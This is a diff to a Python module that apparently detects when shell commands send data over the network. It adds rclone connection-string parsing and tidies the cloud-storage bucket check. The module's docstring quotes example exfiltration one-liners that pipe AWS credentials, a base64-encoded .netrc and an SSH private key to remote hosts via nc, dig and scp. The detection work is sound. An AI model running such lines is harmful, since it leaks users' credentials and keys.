@@ -5,7 +5,7 @@ bash's `/dev/tcp/HOST/PORT`), and the trees a pipeline carries through filters t
 A send is judged by what the same line reads: a file of the home read by a line that sends is how data leaves
 (`cat ~/.aws/credentials | nc host 9`, `dig $(base64 -w0 ~/.netrc).example`, `scp ~/.ssh/id_ed25519 host:`).
 The line's reads are known as effects; which of them reach the send through pipes, substitutions or variables is
-not followed, so a line that both reads a home's file and sends is judged as sending it (later_code.reaches_home).
+not followed, so a line that both reads a home's file and sends is judged as sending it (home_reach.reaches_home).
 """
 
 from __future__ import annotations
@@ -46,6 +46,22 @@ def remote_word(word: str) -> bool:
     return _HOST.fullmatch(before) is not None
 
 
+# rclone's connection string (https://rclone.org/docs/#connection-strings): `:backend` and its parameters, each
+# `,name` or `,name=value`, a value in quotes holding `,` or `:` (a quote inside doubled), then `:` and the path
+_CONNECTION = re.compile(r""":([\w-]+)(?:,[^,:=]+(?:=(?:"(?:[^"]|"")*"|'(?:[^']|'')*'|[^,:"']*))?)*:""")
+
+
+def backend_path(word: str, local_backends: frozenset[str]) -> str:
+    """`word` as a program that reads connection strings reads it: the path itself when it names an on-the-fly
+    remote of a local backend (`:local:/tmp/x`, `:local,links:dir`; no path: the directory it works in; a leading
+    `~` is a directory of that name, as no shell expands it there), else the word as it is."""
+    match = _CONNECTION.match(word) if local_backends and word.startswith(":") else None
+    if match is None or match.group(1) not in local_backends:
+        return word
+    path = word[match.end() :] or "."
+    return "./" + path if path.startswith("~") else path
+
+
 def _host(word: str) -> str:
     """The host a remote operand or a network program's operand names (`u@h:path` → `h`)."""
     if "://" in word:
@@ -60,10 +76,11 @@ def network_sends(ledger: Ledger, program: Program, parsed: Parsed) -> None:
     words = [*parsed.operands, *(v for _, v in parsed.options if v)]
     talks = program.network or program.sends or program.remote_command
     talks = talks or any(parsed.operands[: len(w)] == list(w) for w in program.sends_words)
-    if not talks and program.operands not in ("fetch", "fetch-first") and any(_STORAGE.match(w) for w in words):
-        bucket = next(w for w in words if _STORAGE.match(w))
-        ledger.add("send", None, program.name, host=_host(bucket), known=not _dynamic(bucket))
-        return
+    if not talks and program.operands not in ("fetch", "fetch-first"):
+        bucket = next((w for w in words if _STORAGE.match(w)), None)  # the words scanned once
+        if bucket is not None:
+            ledger.add("send", None, program.name, host=_host(bucket), known=not _dynamic(bucket))
+            return
     if not talks:
         return
     after = next((len(w) for w in program.sends_words if parsed.operands[: len(w)] == list(w)), 0)
